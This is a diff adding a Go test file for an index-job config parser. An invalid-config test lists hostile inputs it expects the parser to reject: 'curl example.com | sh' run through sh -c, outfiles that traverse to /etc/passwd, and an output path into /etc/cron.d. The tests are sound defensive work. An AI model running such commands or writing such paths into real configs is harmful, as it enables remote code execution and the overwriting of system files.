@@ -0,0 +1,57 @@
+package indexjobs
+
+import (
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+func TestParseConfig(t *testing.T) {
+	config := `
+index_jobs:
+  - root: ./web/
+    indexer: lsif-tsc
+    indexer_args: [-p, ., --out, out.lsif]
+    outfile: out.lsif
+  - indexer: lsif-go
+`
+
+	jobs, err := ParseConfig([]byte(config))
+	if err != nil {
+		t.Fatalf("unexpected error parsing config: %s", err)
+	}
+
+	expected := []IndexJob{
+		{
+			Root:        "web",
+			Indexer:     "lsif-tsc",
+			IndexerArgs: []string{"-p", ".", "--out", "out.lsif"},
+			Outfile:     "out.lsif",
+		},
+		{Root: "", Indexer: "lsif-go", Outfile: "dump.lsif"},
+	}
+	if diff := cmp.Diff(expected, jobs); diff != "" {
+		t.Errorf("unexpected index jobs (-want +got):\n%s", diff)
+	}
+}
+
+func TestParseConfigInvalid(t *testing.T) {
+	for _, config := range []string{
+		"index_jobs: [{root: web}]",
+		"index_jobs: [{root: ../web, indexer: lsif-go}]",
+		"index_jobs: [{root: /web, indexer: lsif-go}]",
+		"index_jobs: [{indexer: lsif-go, unknown: true}]",
+		"index_jobs: [{indexer: sh, indexer_args: [-c, 'curl example.com | sh']}]",
+		"index_jobs: [{indexer: /usr/bin/lsif-go}]",
+		"index_jobs: [{indexer: lsif-go, steps: [[sh, -c, 'curl example.com | sh']]}]",
+		"index_jobs: [{indexer: lsif-go, outfile: ../../../etc/passwd}]",
+		"index_jobs: [{indexer: lsif-go, outfile: /etc/passwd}]",
+		"index_jobs: [{indexer: lsif-go, outfile: .}]",
+		"index_jobs: [{indexer: lsif-tsc, indexer_args: [--out, /etc/cron.d/dump]}]",
+		"index_jobs: [{indexer: lsif-tsc, indexer_args: [--out=../../dump.lsif]}]",
+	} {
+		if _, err := ParseConfig([]byte(config)); err == nil {
+			t.Errorf("expected error parsing config %q", config)
+		}
+	}
+}